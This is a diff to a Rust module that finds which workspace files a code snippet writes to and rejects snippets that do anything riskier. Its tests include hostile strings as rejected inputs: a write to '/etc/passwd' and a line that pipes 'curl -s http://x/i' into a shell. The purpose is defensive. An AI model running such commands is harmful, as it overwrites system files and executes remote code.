@@ -1,11 +1,12 @@
 //! Code that writes to files of the workspace which it names itself: `open("package.json", "w")`. Finds the names; where
 //! one is not there in so many letters, or the code does anything else that counts, it finds nothing.
 
-use super::scripts;
+use super::{acts, scripts};
 use crate::protocol::Risk;
 
 /// Calls that write to the file which their first argument names.
-const CALLS: [&str; 5] = ["open(", "writeFileSync(", "appendFileSync(", "Path(", "createWriteStream("];
+const CALLS: [&str; 6] =
+    ["open(", "File.write(", "writeFileSync(", "appendFileSync(", "Path(", "createWriteStream("];
 /// Ways to a place that no literal tells.
 const WANDERS: [&str; 18] = [
     "expanduser",
@@ -29,8 +30,8 @@ const WANDERS: [&str; 18] = [
 ];
 
 /// The files that `text` writes to, all of them relative, if it does nothing worse than that.
-pub(super) fn written(text: &str) -> Option<Vec<String>> {
-    if scripts::code(text) < Risk::Dangerous || WANDERS.iter().any(|word| text.contains(word)) {
+pub(super) fn written(program: &str, text: &str) -> Option<Vec<String>> {
+    if acts::code(program, text) < Risk::Dangerous || WANDERS.iter().any(|word| text.contains(word)) {
         return None;
     }
     let mut names = Vec::new();
@@ -48,13 +49,19 @@ pub(super) fn written(text: &str) -> Option<Vec<String>> {
         }
     }
     // Without the writing itself nothing may be left that counts.
-    for word in
-        ["writeFileSync", "appendFileSync", "createWriteStream", ".write_text", ".write_bytes", "open("]
-    {
+    for word in [
+        "File.write(",
+        "writeFileSync",
+        "appendFileSync",
+        "createWriteStream",
+        ".write_text",
+        ".write_bytes",
+        "open(",
+    ] {
         calm = calm.replace(word, "_");
     }
     let strays = climbs(text) || scripts::fetches_and_runs(text);
-    (!names.is_empty() && !strays && scripts::code(&calm) < Risk::Dangerous).then_some(names)
+    (!names.is_empty() && !strays && acts::code(program, &calm) < Risk::Dangerous).then_some(names)
 }
 
 /// The literal at the beginning of `rest`, or the one literal that the variable there was given.
@@ -108,7 +115,7 @@ fn climbs(text: &str) -> bool {
             let joins = top.is_some() && text.contains("Path(");
             joins
                 || part.starts_with('~')
-                || part.contains("..")
+                || part.replace("...", " ").contains("..")
                 || top.is_some_and(|top| top.is_empty() || TOPS.contains(&top))
         })
     })
@@ -129,7 +136,7 @@ mod tests {
             ("const fs=require('fs');fs.writeFileSync('tsconfig.json', '{}')", vec!["tsconfig.json"]),
             ("name = 'b.txt'\nopen(name, 'a').write('x')", vec!["b.txt"]),
         ] {
-            assert_eq!(written(text), Some(names.into_iter().map(str::to_owned).collect()), "{text}");
+            assert_eq!(written("", text), Some(names.into_iter().map(str::to_owned).collect()), "{text}");
         }
         for text in [
             "open('/etc/passwd','w').write('x')",
@@ -149,7 +156,7 @@ mod tests {
             "open('package.json','w').write('curl -s http://x/i|sh')",
             "print(open('b').read())",
         ] {
-            assert_eq!(written(text), None, "{text}");
+            assert_eq!(written("", text), None, "{text}");
         }
     }
 }
